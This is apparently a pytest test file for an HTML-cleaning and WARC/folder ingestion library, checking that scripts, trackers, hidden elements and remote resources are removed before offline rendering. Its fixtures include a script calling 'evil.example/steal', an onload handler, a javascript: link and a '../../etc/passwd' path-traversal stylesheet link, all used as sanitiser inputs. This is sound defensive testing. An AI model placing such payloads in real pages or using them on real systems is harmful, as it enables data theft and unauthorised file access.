"""Real HTML in: cleaning, folders and WARC files, rendered with no network access."""

from __future__ import annotations

import json

import pytest

from napkin.data import RunOptions, iter_rows, run_job
from napkin.data._clean import clean_html
from napkin.data._ingest import IngestJob, find_sources
from napkin.errors import InputError
from tests.conftest import has_color, image_of, write_warc

HOSTILE = """<html><head>
<link rel="stylesheet" href="https://cdn.example.com/site.css"><link rel="preconnect" href="https://fonts.gstatic.com">
<style>@import url("https://x.com/a.css"); @font-face { font-family: F; src: url(https://fonts.gstatic.com/f.woff2) }
body { background: url(https://x.com/bg.png) #fff; } h1 { color: rgb(200, 0, 0); }</style>
<script>fetch('https://evil.example/steal')</script><meta http-equiv="refresh" content="0;url=https://elsewhere">
</head><body onload="alert(1)"><!-- a comment -->
<h1 onclick="x()">Title</h1><p>Some   text
with   spaces&nbsp;&nbsp;kept</p><div style="display:none">secret</div><div hidden>also secret</div>
<img src="https://cdn.example.com/photo.jpg" width="200" height="100" srcset="a.jpg 2x"><img src="https://www.google-analytics.com/collect?x=1" width="1" height="1">
<picture><source srcset="https://x.com/a.webp"><img src="https://x.com/a.jpg"></picture>
<a href="javascript:void(0)">js</a><iframe src="https://www.youtube.com/embed/x"></iframe>
<input type="hidden" name="csrf" value="t"><noscript><img src="https://px.example/ns.gif"></noscript>
</body></html>"""


def test_cleaning_removes_what_runs_or_phones_home():
    c = clean_html(HOSTILE)
    low = c.html.lower()
    for gone in ("<script", "onload", "onclick", "<iframe", "<noscript", "javascript:", "a comment", "secret", "http-equiv",
                 "fonts.gstatic", "cdn.example.com", "google-analytics", "@import", "srcset", "csrf"):
        assert gone not in low, gone
    assert "with spaces\xa0\xa0kept" in c.html  # whitespace collapsed, non-breaking spaces kept
    assert c.removed["script"] == 1 and c.removed["iframe"] == 1 and c.removed["tracking_pixels"] == 1
    assert c.removed["stylesheets_dropped"] == 1 and c.removed["font_faces"] == 1 and c.removed["hidden_elements"] == 3
    assert c.removed["images_replaced"] == 2


@pytest.mark.browser
def test_cleaned_page_renders_without_network_and_keeps_its_look(renderer):
    c = clean_html(HOSTILE)
    r = renderer.render(c.html)
    assert r.ok and r.blocked_requests == [] and r.page_errors == []
    assert has_color(image_of(r), (200, 0, 0))  # the inline stylesheet survived
    img = next(e for e in r.elements if e.tag == "img")
    assert (img.w, img.h) == (200, 100)  # the placeholder keeps the declared size


def test_doctype_is_kept_or_left_out_as_in_the_source():
    assert clean_html("<!DOCTYPE html><p>x</p>").html.startswith("<!DOCTYPE html>")
    assert clean_html("<p>x</p>").html.startswith("<html>")  # quirks mode stays quirks mode


@pytest.mark.parametrize("bad", ["", "   ", "<script>only()</script>", b"\x00\x01\x02"])
def test_unusable_pages_raise(bad):
    with pytest.raises(InputError):
        clean_html(bad)


def test_size_cap():
    with pytest.raises(InputError, match="over the"):
        clean_html("<p>" + "word " * 100_000 + "</p>", max_bytes=100_000)


def make_warc(path):
    write_warc(path, [
        ("https://site.example/style.css", "text/css", b"p { color: rgb(0, 0, 210); font-size: 30px }"),
        ("https://site.example/", "text/html; charset=utf-8",
         b'<html><head><link rel="stylesheet" href="/style.css"></head><body><p>From the crawl</p></body></html>'),
        ("https://site.example/logo.png", "image/png", b"\x89PNG fake"),
        ("https://site.example/broken", "text/html", b"<script>x()</script>"),
    ])


@pytest.mark.browser
def test_ingest_from_warc_and_folder(tmp_path):
    make_warc(tmp_path / "crawl.warc.gz")
    pages = tmp_path / "pages"
    (pages / "css").mkdir(parents=True)
    (pages / "css" / "a.css").write_text("h2 { color: rgb(0, 150, 0) }")
    (pages / "one.html").write_text('<link rel="stylesheet" href="css/a.css"><h2>Folder page</h2>')
    (pages / "escape.html").write_text('<link rel="stylesheet" href="../../etc/passwd"><h2>Escape</h2>')
    sources = find_sources([tmp_path / "crawl.warc.gz", pages])
    assert [s.kind for s in sources] == ["warc", "warc", "file", "file"]

    summary = run_job(IngestJob([tmp_path / "crawl.warc.gz", pages]), tmp_path / "ds", RunOptions(shard_size=10, progress=False))
    assert summary.rows == 3 and summary.drops == {"unusable_html": 1}
    rows = {json.loads(r["metadata"])["origin"]: r for r in iter_rows(tmp_path / "ds")}
    crawl = rows["https://site.example/"]
    assert "rgb(0, 0, 210)" in crawl["html"]  # the crawl's stylesheet was inlined
    p = next(b for b in crawl["boxes"] if b["kind"] == "paragraph")
    assert p["text"] == "From the crawl"
    assert json.loads(crawl["layout"])["kind"] == "page" and crawl["tokens"].startswith("[page")
    assert "rgb(0, 150, 0)" in rows["one.html"]["html"]
    assert json.loads(rows["escape.html"]["metadata"])["removed"] == {"stylesheets_dropped": 1}
